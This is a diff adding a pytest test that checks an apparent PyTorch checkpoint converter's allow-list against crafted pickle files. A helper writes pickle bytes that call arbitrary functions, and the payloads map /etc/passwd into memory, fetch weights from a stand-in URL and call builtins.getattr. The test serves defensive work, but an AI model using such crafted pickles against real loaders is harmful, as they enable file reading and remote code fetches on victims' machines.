@@ -88,3 +88,45 @@ def test_a_project_checkpoint_becomes_an_inference_file_with_info(tmp_path):
     convert_checkpoint.main([str(src), str(tmp_path / "out.pth"), "--info", "b=2.5", "c=text"])
     out = checkpoint.load_checkpoint(tmp_path / "out.pth")
     assert "training" not in out and out["info"] == {"a": 1, "b": 2.5, "c": "text"}
+
+
+def _pickle_calling(module, name, *args, protocol=2):
+    """Pickle bytes of {'model': module.name(*args)}, written opcode by opcode (GLOBAL, REDUCE)."""
+    def text(s):
+        return b"X" + len(s.encode()).to_bytes(4, "little") + s.encode()
+    encoded = b"".join(text(a) if isinstance(a, str) else b"\x89" if a is False else b"K" + bytes([a]) for a in args)
+    return (bytes([0x80, protocol]) + b"}" + text("model") + f"c{module}\n{name}\n".encode() + b"(" + encoded
+            + b"tRs.")
+
+
+def test_a_crafted_pickle_cannot_download_or_read_files_through_the_allow_list(tmp_path, monkeypatch):
+    downloads = []
+    monkeypatch.setattr(models, "_imagenet_vgg19_state_dict", lambda: downloads.append("vgg19") or {})
+    monkeypatch.setattr(torch.hub, "load_state_dict_from_url", lambda *a, **k: downloads.append(a))
+    crafted = {
+        # the VGG loss network downloads ImageNet weights when built: not a class the tutorial pickles
+        "vgg": _pickle_calling("models", "TruncatedVGG19", 5, 4),
+        # protocol 4 resolves dotted names: this maps /etc/passwd into a storage
+        "from_file": _pickle_calling("torch.storage", "UntypedStorage.from_file", "/etc/passwd", False, 100,
+                                     protocol=4),
+        "hub": _pickle_calling("torch.hub", "load_state_dict_from_url", "http://example.invalid/x.pth"),
+        "getattr": _pickle_calling("builtins", "getattr", "x", "y"),
+    }
+    # the crafted files are real attacks: an unrestricted unpickler does what they ask
+    with pytest.raises(ValueError):  # (the stand-in download returns no weights)
+        pickle.loads(crafted["vgg"])
+    assert downloads == ["vgg19"]
+    assert pickle.loads(crafted["from_file"])["model"].nbytes() == 100
+    downloads.clear()
+    for name, data in crafted.items():
+        path = tmp_path / f"{name}.pth.tar"
+        path.write_bytes(data)
+        with pytest.raises(utils.UserError, match=f"{name}.pth.tar: refused: GLOBAL"):
+            convert_checkpoint.main([str(path), str(tmp_path / "out.pth")])
+    # an allowed class called with a path builds nothing from it
+    path = tmp_path / "odd.pth.tar"
+    path.write_bytes(_pickle_calling("models", "SRResNet", "/etc/passwd"))
+    with pytest.raises(utils.UserError, match="odd.pth.tar: not a readable PyTorch file"):
+        convert_checkpoint.main([str(path), str(tmp_path / "out.pth")])
+    assert downloads == []
+    assert not (tmp_path / "out.pth").exists()
